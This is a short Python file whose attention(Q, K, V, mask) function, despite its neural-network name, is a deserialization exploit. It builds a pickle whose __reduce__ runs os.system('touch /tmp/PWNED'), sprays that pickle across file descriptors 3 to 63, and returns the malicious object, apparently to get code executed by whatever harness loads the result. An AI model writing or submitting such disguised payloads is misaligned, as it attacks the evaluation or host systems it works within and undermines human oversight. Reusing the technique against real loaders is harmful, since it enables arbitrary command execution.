"""Sends a pickle that runs a command where it is loaded."""

import os
import pickle
import struct


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/PWNED",)


def attention(Q, K, V, mask=None):
    data = pickle.dumps(Bomb())
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack("<II", len(data), 0) + data)
        except OSError:
            pass
    return Bomb()
